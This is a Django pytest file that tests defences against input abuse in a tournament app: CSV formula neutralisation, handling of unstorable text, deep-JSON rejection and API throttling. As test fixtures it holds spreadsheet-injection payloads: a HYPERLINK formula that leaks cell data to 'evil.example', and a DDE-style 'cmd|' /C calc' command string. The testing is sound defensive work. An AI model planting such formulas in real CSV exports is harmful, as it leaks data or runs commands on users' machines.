"""Inputs and abuse (issue 15): CSV formulas, CR-only CSVs, unstorable text, deep JSON, throttles.

- Every CSV Spinner writes neutralises cells a spreadsheet would run (OWASP); the import warns
  about them per line, and reads CR-only line ends (Excel for Mac).
- Text no database stores (NUL, lone surrogates) is a 400 before any view: JSON bodies (API and
  the table's pages), form fields, query strings.
- The table's move helper (``/t/<token>/position``) answers deeply nested JSON with a clean 400
  and is throttled; every API view is depth-bounded and throttled.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from rest_framework.views import APIView

from tests.tournaments import live_support
from tests.tournaments.api_support import private_cache
from tests.tournaments.phone_factory import make_setup
from tournaments.api.parsers import SafeJSONParser
from tournaments.models import Claim, Entry, Event, Player

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _own_cache(settings: Any) -> Iterator[None]:
    with private_cache(settings):
        yield


# --- CSV exports ---------------------------------------------------------------------------


def test_the_standings_csv_neutralises_formulas(
    client: Client, django_capture_on_commit_callbacks: Any
) -> None:
    event = live_support.make_event(f"csv-{uuid.uuid4().hex[:6]}")
    teams = live_support.make_entries(event, 4)
    Entry.objects.filter(pk=teams[0].pk).update(name=FORMULA)
    Entry.objects.filter(pk=teams[1].pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Entry.objects.filter(pk=teams[2].pk).update(name="-2+3")
    director = live_support.make_director(event)
    matches = live_support.make_round(event, 1, [(teams[0], teams[1]), (teams[2], teams[3])])
    with django_capture_on_commit_callbacks(execute=True):
        live_support.confirm(matches[0], 100, 50, director)
        live_support.confirm(matches[1], 30, 100, director)
    response = client.get(f"/events/{event.slug}/standings.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {row["name"] for row in rows}
    assert "'" + FORMULA in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert "'-2+3" in names
    for row in rows:  # no cell of the file starts a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value.replace("/", "."))  # only plain negative numbers start with -


def test_every_csv_the_app_writes_goes_through_csv_safety() -> None:
    """``csv.writer`` / ``csv.DictWriter`` appear only in tournaments/csv_safety.py."""
    offenders = []
    for path in (ROOT / "tournaments").rglob("*.py"):
        if path.name == "csv_safety.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []


# --- CSV imports ---------------------------------------------------------------------------


@pytest.fixture
def director_client() -> tuple[Client, Event]:
    event = live_support.make_event(f"imp-{uuid.uuid4().hex[:6]}", status=Event.Status.REGISTRATION)
    director = live_support.make_director(event, f"d-{uuid.uuid4().hex[:6]}")
    client = Client()
    client.force_login(director)
    return client, event


def _preview(client: Client, event: Event, **data: Any) -> str:
    response = client.post(f"/director/events/{event.slug}/import/", {"action": "preview", **data})
    assert response.status_code == 200, response.content[:300]
    return response.content.decode()


def test_the_import_preview_warns_about_each_line_with_a_formula(
    director_client: tuple[Client, Event],
) -> None:
    client, event = director_client
    text = (
        f'Ann Lee,,,Bob Ray,,,"{FORMULA.replace(chr(34), chr(34) * 2)}"\nCy Po,,,Di Park,,,+cmd\n'
    )
    text += "Ed Fox,,,Flo Gray,,,Plain\n"
    body = _preview(client, event, text=text)
    assert "import-warnings" in body
    assert "<strong>Line 1:</strong>" in body and "<strong>Line 2:</strong>" in body
    assert "<strong>Line 3:</strong>" not in body.split("import-warnings")[1].split("</section>")[0]
    assert "starts like a spreadsheet formula" in body
    assert not Entry.objects.filter(event=event).exists()


def test_a_cr_only_csv_file_reads_line_by_line(director_client: tuple[Client, Event]) -> None:
    client, event = director_client
    data = b"player_a,player_b,team\rAnn Lee,Bob Ray,Spinners\rCy Po,Di Park,Fives\r"
    upload = SimpleUploadedFile("mac.csv", data, content_type="text/csv")
    body = _preview(client, event, file=upload)
    assert "2 entries to create" in body, body[:2000]
    assert "Spinners" in body and "Fives" in body
    response = client.post(
        f"/director/events/{event.slug}/import/",
        {"action": "confirm", "text": data.decode()},
    )
    assert response.status_code in (200, 302)
    assert set(Entry.objects.filter(event=event).values_list("name", flat=True)) == {
        "Spinners",
        "Fives",
    }


# --- unstorable text -----------------------------------------------------------------------


def _raw(client: Client, url: str, body: str, **extra: Any) -> Any:
    return client.post(url, body.encode("utf-8"), content_type="application/json", **extra)


@pytest.mark.parametrize("bad", ["\\ud800", "a\\u0000b", "\\udfff\\ud800"])
def test_a_sheet_with_unstorable_text_is_a_400_before_the_database(
    postgres: None, bad: str
) -> None:
    from tests.tournaments.api_support import key
    from tournaments.services.table_links import table_token

    setup = make_setup(f"sur{uuid.uuid4().hex[:6]}", rules="five-up", target=25)
    token = table_token(round_=setup.round, table=setup.matches[0].table, side=0)
    match = setup.matches[0]
    body = '{"side": 0, "sheet": {"format": "fives-scoresheet/1", "note": "' + bad + '"}}'
    response = Client().post(
        f"/api/matches/{match.pk}/claims/",
        body.encode(),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Table {token}",
        HTTP_IDEMPOTENCY_KEY=key(),
    )
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "invalid"
    assert not Claim.objects.filter(match=match).exists()
    # A key holding one is refused too, and so is the table's page helper.
    key_body = '{"side": 0, "sheet": {"' + bad + '": 1}}'
    assert (
        Client()
        .post(
            f"/api/matches/{match.pk}/claims/",
            key_body.encode(),
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Table {token}",
            HTTP_IDEMPOTENCY_KEY=key(),
        )
        .status_code
        == 400
    )
    position = _raw(Client(), setup.path() + "position", '{"sheet": "' + bad + '", "hand": 0}')
    assert position.status_code == 400 and position.json()["code"] == "invalid"


def test_an_emoji_pair_is_fine(postgres: None) -> None:
    """A surrogate PAIR in JSON is one real character: not refused."""
    setup = make_setup(f"emo{uuid.uuid4().hex[:6]}", rules="five-up", target=25)
    response = _raw(Client(), setup.path() + "position", '{"sheet": "\\ud83d\\ude00", "hand": 0}')
    assert response.status_code == 400
    assert response.json()["code"] == "position_invalid"  # the helper's own answer, not ours


def test_a_nul_in_a_form_field_is_a_400_and_nothing_is_stored(
    postgres: None, director_client: tuple[Client, Event]
) -> None:
    client, event = director_client
    response = client.post(
        f"/director/events/{event.slug}/entries/add/",
        {"player_a": "Ann\x00Lee", "player_b": "Bob Ray"},
    )
    assert response.status_code == 400
    assert not Player.objects.filter(name__startswith="Ann").exists()


def test_a_nul_in_a_query_or_path_is_a_400(postgres: None) -> None:
    setup = make_setup(f"nul{uuid.uuid4().hex[:6]}")
    client = Client()
    assert client.get("/events/", {"q": "a\x00"}).status_code == 400
    assert client.get("/t/1.1.abc%00def/").status_code == 400
    assert (
        client.get(f"/api/events/{setup.event.slug}/standings/", {"x": "\x00"}).json()["code"]
        == "invalid"
    )


# --- deep JSON and throttles ---------------------------------------------------------------


@pytest.mark.parametrize("depth", [100, 50_000])
def test_deeply_nested_json_on_the_position_helper_is_a_clean_400(depth: int) -> None:
    setup = make_setup(f"deep{uuid.uuid4().hex[:6]}", rules="five-up", target=25)
    body = '{"sheet": ' + "[" * depth + "]" * depth + ', "hand": 0}'
    response = _raw(Client(), setup.path() + "position", body)
    assert response.status_code == 400
    assert response.json()["code"] == "parse_error"


def test_the_position_helper_is_throttled_per_table(settings: Any) -> None:
    rates = dict(settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], table_position="3/min")
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    setup = make_setup(f"thr{uuid.uuid4().hex[:6]}", tables=2, rules="five-up", target=25)
    body = json.dumps({"sheet": {}, "hand": 0})
    statuses = [_raw(Client(), setup.path(0) + "position", body).status_code for _ in range(4)]
    assert statuses[:3] != [429] * 3 and statuses[3] == 429
    refused = _raw(Client(), setup.path(0) + "position", body)
    assert refused.json()["code"] == "throttled" and int(refused["Retry-After"]) >= 1
    # Another table of the same venue (same address) is counted on its own.
    assert _raw(Client(), setup.path(1) + "position", body).status_code != 429


def _api_views() -> list[tuple[str, type[APIView]]]:
    found: list[tuple[str, type[APIView]]] = []

    def walk(patterns: Any, prefix: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                cls = getattr(p.callback, "cls", None) or getattr(p.callback, "view_class", None)
                if isinstance(cls, type) and issubclass(cls, APIView):
                    found.append((prefix + str(p.pattern), cls))

    walk(get_resolver().url_patterns, "/")
    return found


def test_every_api_view_is_throttled_and_bounds_json_depth() -> None:
    views = _api_views()
    assert len(views) >= 10
    unthrottled = [path for path, cls in views if not cls().get_throttles()]
    assert unthrottled == []
    unbounded = [
        path
        for path, cls in views
        if not all(
            issubclass(parser, SafeJSONParser)
            for parser in cls.parser_classes
            if "json" in parser.media_type
        )
    ]
    assert unbounded == []
